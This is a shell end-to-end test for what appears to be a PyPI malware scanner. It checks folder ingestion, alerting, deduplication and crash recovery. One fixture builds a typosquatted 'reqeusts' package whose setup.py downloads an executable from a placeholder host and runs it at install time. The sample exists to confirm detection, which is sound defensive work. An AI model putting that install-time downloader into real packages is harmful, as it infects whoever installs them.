#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A folder of archives goes the way of an upload: judged with history, alerted
# about, once; whatever lies in the folder, and however the command ends.
# shellcheck source=tests/e2e/harness.sh
. "${top_srcdir:-.}/tests/e2e/harness.sh"
command -v python3 > /dev/null || { echo "python3 is missing"; exit 77; }
port=$(python3 -c 'import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
# A proxy that refuses everything is not asked for what we feed.
config_extra="ingest { port = $port }
http { proxy = \"http://127.0.0.1:9\" no-proxy = \"127.0.0.9,localhost\" }
limits { artefact-bytes = 4MiB }"
cluster_start
index_start --releases 1 --hostile elf-data
receiver_start
# The index and the receiver are reached directly all the same.
config_write
sed -i "s|127.0.0.1:$(cat "$work/index.port")|localhost:$(cat \
    "$work/index.port")|" "$work/pypiwatch.conf"
sed -i "s|127.0.0.1|localhost|" "$work/hook.url" "$work/slack.url"
migrate
cd "$work"

# shellcheck source=tests/command.sh
. "$top_srcdir/tests/command.sh"

mkdir folder folder/deep tree
python3 - folder << 'PY'
import io, sys, tarfile
def sdist(name, version, files, filename=None):
    stem = f'{name}-{version}'
    with tarfile.open(f'{sys.argv[1]}/{filename or stem + ".tar.gz"}',
            'w:gz') as t:
        meta = f'Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n'
        for path, text in {'PKG-INFO': meta, **files}.items():
            info = tarfile.TarInfo(f'{stem}/{path}')
            data = text.encode()
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
plain = {'setup.py': 'from setuptools import setup\nsetup(name="plain")\n'}
# Inert: the host does not exist.
bad = {'setup.py': 'import urllib.request, os, tempfile, subprocess\n'
    'p = os.path.join(tempfile.gettempdir(), "update.exe")\n'
    'urllib.request.urlretrieve("http://files.example.invalid/u.exe", p)\n'
    'subprocess.Popen([p])\nfrom setuptools import setup\nsetup()\n'}
sdist('plain', '1.0', plain)
sdist('plain', '1.1', plain, 'deep/plain-1.1.tar.gz')
sdist('reqeusts', '9.9', bad)
sdist('nameless', '3.2', plain, 'download.tar.gz')
for i in range(40):
    sdist('many', f'1.{i}', plain)
open(f'{sys.argv[1]}/garbage-1.0.tar.gz', 'wb').write(b'\0' * 999)
open(f'{sys.argv[1]}/unnamed.zip', 'wb').write(b'no archive')
open(f'{sys.argv[1]}/notes.txt', 'w').write('none')
with open(f'{sys.argv[1]}/huge-1.0.tar.gz', 'wb') as f:
    f.truncate(1 << 40)
PY
ln -s /etc/passwd folder/link-1.0.tar.gz
mkfifo folder/pipe-1.0.tar.gz
echo "[project]" > tree/pyproject.toml

run 2 ingest; says "needs a folder"
run 2 ingest /nonexistent; says "no folder"
run 2 ingest folder; says "start pypiwatchd"
check "nothing left behind" 0 "$(sql "SELECT count(*) FROM pypiwatch.task")"
daemon_start

run 2 ingest --format json folder tree
says "link-1.0.tar.gz: is a symbolic link"
says "pipe-1.0.tar.gz: is not a regular file"
says "huge-1.0.tar.gz: cannot be read: it is larger than"
says "unnamed.zip: neither its name nor its metadata"
says "source tree"
check "each once" 45 "$(jq -s 'length' out)"
check "the hostile one" "scanned true critical false" "$(jq -r 'select(.project
    == "reqeusts") | "\(.outcome) \(.alert) \(.severity) \(.known)"' out |
    sed 's/ high / critical /')"
check "by its metadata" "nameless 3.2 scanned" "$(jq -r 'select(.file |
    endswith("download.tar.gz")) | "\(.project) \(.version) \(.outcome)"' out)"
check "broken" unscannable "$(jq -r 'select(.project == "garbage").outcome' out)"
check "below" scanned "$(jq -r 'select(.version == "1.1" and
    .project == "plain").outcome' out)"
check "events" "45 ingest" "$(sql "SELECT count(*) || ' ' || min(sources[1])
    FROM analyst.events WHERE action = 'fed from a folder'")"
check "coverage" 45 "$(sql "SELECT sum(stored) FROM analyst.coverage
    WHERE source = 'ingest'")"
check "a detection" reqeusts "$(sql "SELECT string_agg(project, ' ')
    FROM analyst.detections")"
wait_sql 60 t "SELECT count(*) > 0 FROM analyst.deliveries
    WHERE status = 'delivered' AND sink = 'hook'"

# What it turned out to be labels numbers as scan prints them, but for what
# only the daemon knew: the names, compared with history, and the score.
run 0 triage "$(sql "SELECT id FROM analyst.detections")" confirmed
run 0 export vectors; cp out stored
run 1 scan --vectors --label malicious --year "$(date -u +%Y)" \
    folder/reqeusts-9.9.tar.gz
check "stored vectors" "$(jq -Sc 'del(.score, .year, .file, .ruleset)' out)" \
    "$(jq -Sc 'del(.score, .year, .file, .ruleset)' stored)"

# Again: all is known, nothing is judged twice; other bytes are.
scans=$(sql "SELECT count(*) FROM pypiwatch.scan")
run 2 ingest --format json folder
check "known" 45 "$(jq -s 'map(select(.known)) | length' out)"
check "judged once" "$scans" "$(sql "SELECT count(*) FROM pypiwatch.scan")"
rm -r folder/*
tar -czf folder/plain-1.0.tar.gz tree
run 0 ingest folder; shows "1 files, 0 of them known"
check "other bytes" t "$(sql "SELECT changed_bytes FROM pypiwatch.upload
    WHERE normalized = 'plain' AND version = '1.0'")"

# No address of ours is left, so that a rescan does not ask for it.
check "addresses" 0 "$(sql "SELECT count(*) FROM pypiwatch.upload
    WHERE url LIKE '%/ingest/%'")"

# Interrupted: what nobody can fetch does not wait.  Killed: goes on later.
daemon_stop
mv tree/pyproject.toml tree/x
sql "INSERT INTO pypiwatch.instance (host, pid, version) VALUES ('h', 1, 'x')"
tar -czf folder/late-1.0.tar.gz tree
for signal in INT KILL; do
	timeout 60 "$top_builddir/pypiwatch" -c pypiwatch.conf ingest \
	    folder/late-1.0.tar.gz > out 2> err &
	feeding=$!
	wait_sql 30 1 "SELECT count(*) FROM pypiwatch.task"
	# timeout(1) stands between; it passes signals on, but not KILL.
	kill -$signal "$(ps -o pid= --ppid "$feeding" | tr -d ' ')"
	wait "$feeding" || :
	[ $signal = KILL ] || {
		says "call it again"
		check "taken back" "0 0" "$(sql "SELECT (SELECT count(*)
		    FROM pypiwatch.task) || ' ' || (SELECT count(*)
		    FROM pypiwatch.upload WHERE outcome IS NULL)")"
	}
done
check "still queued" 1 "$(sql "SELECT count(*) FROM pypiwatch.task")"
daemon_start
run 0 ingest folder/late-1.0.tar.gz; shows "late 1.0"
check_invariants
e2e_done
